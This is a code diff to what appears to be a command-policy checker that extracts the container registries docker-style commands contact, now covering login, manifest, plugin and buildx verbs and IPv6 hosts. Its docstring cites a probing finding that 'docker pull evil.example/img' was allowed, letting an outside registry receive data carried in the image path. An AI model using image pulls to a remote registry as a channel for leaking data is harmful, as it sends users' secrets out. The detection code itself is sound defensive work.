@@ -296,30 +296,44 @@ def engine_hosts(name: str, args: list[Word]) -> list[Word]:
 
 
 #: An image reference that names its registry: ``HOST[:PORT]/PATH[:TAG][@DIGEST]``, the
-#: host holding a ``.`` or a port, or ``localhost``.
+#: host holding a ``.`` or a port, ``localhost``, or an IPv6 address in brackets; a path
+#: component's separators as Docker's (``.``, ``_``, ``__``, any run of ``-``).
+_COMPONENT = r"[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*"
 _IMAGE = re.compile(
-    r"((?:[a-z0-9-]+\.)+[a-z0-9-]+(?::\d+)?|[a-z0-9-]+:\d+|localhost)"
-    r"/[a-z0-9]+(?:[._/-][a-z0-9]+)*(?::\w[\w.-]{0,127})?(?:@[a-z0-9]+:[a-f0-9]+)?",
+    r"((?:[a-z0-9-]+\.)+[a-z0-9-]+(?::\d+)?|[a-z0-9-]+:\d+|localhost|\[[0-9a-f:.]+\](?::\d+)?)"
+    rf"/{_COMPONENT}(?:/{_COMPONENT})*(?::\w[\w.-]{{0,127}})?(?:@[a-z0-9]+:[a-f0-9]+)?",
     re.IGNORECASE,
 )
-#: The verbs that fetch or send an image (``docker pull``, ``run``, ``image push``...).
-_REGISTRY_VERBS = frozenset({"pull", "push", "run", "create"})
+#: The verbs that fetch or send an image, or log in to a registry (``docker pull``,
+#: ``run``, ``image push``, ``login HOST``); the groups whose every image reference is
+#: reached (``manifest inspect``, ``plugin install``, ``buildx build --push``).
+_REGISTRY_VERBS = frozenset({"pull", "push", "run", "create", "login"})
+_REGISTRY_GROUPS = frozenset({"manifest", "plugin", "buildx", "trust"})
 
 
-def registry_hosts(name: str, args: list[Word]) -> list[str]:
+def registry_hosts(name: str, args: list[Word]) -> list[str | None]:
     """The registries a container command pulls from or pushes to, as its image
     references name them (found probing: ``docker pull evil.example/img`` was allowed,
-    and the registry at ``evil.example`` sees the pull and what its path carries)."""
+    and the registry at ``evil.example`` sees the pull and what its path carries); None
+    for a reference whose host is known only at run time."""
     if name not in CONTAINER_ENGINES:
         return []
     rest = args[_global_options(args)[1] :]
     verbs = [w.text for w in rest[:2]]
     if verbs[:1] in (["image"], ["container"]):
-        verbs = verbs[1:]
-    if not verbs or verbs[0] not in _REGISTRY_VERBS:
+        verbs, rest = verbs[1:], rest[1:]
+    if not verbs or (verbs[0] not in _REGISTRY_VERBS and verbs[0] not in _REGISTRY_GROUPS):
         return []
-    found = (_IMAGE.fullmatch(w.text) for w in rest[1:] if not w.dynamic)
-    return list(dict.fromkeys(m.group(1).lower() for m in found if m is not None))
+    found: list[str | None] = []
+    for w in rest[1:]:
+        text = w.text.split("$", 1)[0].split("`", 1)[0] if w.dynamic else w.text
+        if verbs[0] == "login" and not text.startswith("-"):
+            found.append(text.lower() if text and not w.dynamic else None)
+            break
+        m = _IMAGE.fullmatch(text) if not w.dynamic else _IMAGE.match(text + "x")
+        if m is not None:
+            found.append(m.group(1).lower().strip("[]"))
+    return list(dict.fromkeys(found))
 
 
 def engine_contexts(name: str, args: list[Word]) -> list[Word]:
